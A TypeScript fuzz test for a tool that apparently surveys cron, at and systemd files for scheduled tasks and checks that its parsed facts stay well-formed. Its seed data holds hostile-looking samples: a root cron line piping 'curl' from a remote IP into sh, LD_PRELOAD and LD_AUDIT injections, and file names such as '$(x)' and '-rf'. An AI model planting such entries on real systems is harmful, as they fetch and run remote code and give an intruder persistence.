import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { fact } from '../../model/index.ts'
import { displayBytes } from '../../target/index.ts'
import { at } from './at.ts'
import { cron } from './cron.ts'
import { collected, surveyOf } from './survey-of.ts'
import { systemd } from './systemd.ts'

const seed = [
  'MAILTO=root\nLD_PRELOAD=/tmp/\udcff.so\n* * * * * root curl -s http://198.51.100.7/x | sh\n@reboot ./x%y\n',
  '[Unit]\nDescription=\u0001\udcfe\n[Service]\nUser=\udcff\nEnvironment="LD_PRELOAD=/tmp/a.so" \\\n  B=c\nExecStart=-/tmp/%i \udcff\n[Timer]\nOnCalendar=\u0007\udcff\nUnit=b\udcff.service\n',
  '#!/bin/sh\n# atrun uid=0 gid=0\nLD_AUDIT=/x\udcff; export LD_AUDIT\ncd /\udcff || {\n\t exit 1\n}\n/tmp/\u0000x\n',
]

/** A text with a few places cut out, doubled or replaced. */
const mutated = fc
  .tuple(
    fc.constantFrom(...seed),
    fc.array(fc.tuple(fc.nat(400), fc.nat(20), fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 8 }),
  )
  .map(([text, edits]) =>
    edits.reduce((now, [from, length, put]) => now.slice(0, from) + put + now.slice(from + length), text),
  )

test('whatever the files hold and are called, the facts keep their schema and can be shown', async () => {
  const name = fc.constantFrom(
    'root',
    'a\udcffb',
    'tmp.x',
    '-rf',
    ' ',
    '$(x)',
    'a\nb',
    'x.service',
    'x@\udcff.timer',
    '.x',
  )
  await fc.assert(
    fc.asyncProperty(mutated, mutated, name, async (one, other, called) => {
      const survey = surveyOf({
        '/etc/passwd': `root:x:0:0::/root:/bin/sh\na\udcffb:x:1000:1000::/home/\udcff:/bin/sh\n`,
        '/etc/crontab': one,
        [`/etc/cron.d/${called}`]: other,
        [`/etc/cron.daily/${called}`]: { content: one, mode: 0o755 },
        [`/var/spool/cron/crontabs/${called}`]: one,
        [`/var/spool/incron/${called}`]: other,
        [`/var/spool/fcron/${called}.orig`]: other,
        [`/var/spool/at/a${called}`]: one,
        [`/var/lib/systemd/linger/${called}`]: '',
        [`/etc/systemd/system/${called}`]: one,
        '/etc/systemd/system/b.timer': other,
        [`/etc/systemd/system/timers.target.wants/${called}`]: { link: '../b.timer' },
        [`/etc/systemd/system/service.d/${called}.conf`]: other,
        [`/etc/systemd/system-generators/${called}`]: { content: one, mode: 0o755 },
        '/etc/systemd/system.conf': other,
        [`/home/\udcff/.config/systemd/user/${called}`]: one,
        '/etc/tmpfiles.d/x.conf': `f+ /etc/x - - - - ${one}`,
      })
      for (const collector of [cron, at, systemd])
        for (const found of await collected(collector, survey)) {
          fact.parse(found)
          for (const text of Object.values(found).flat())
            if (typeof text === 'string') assert.equal(text, displayBytes(text))
        }
    }),
    { numRuns: 120 },
  )
})
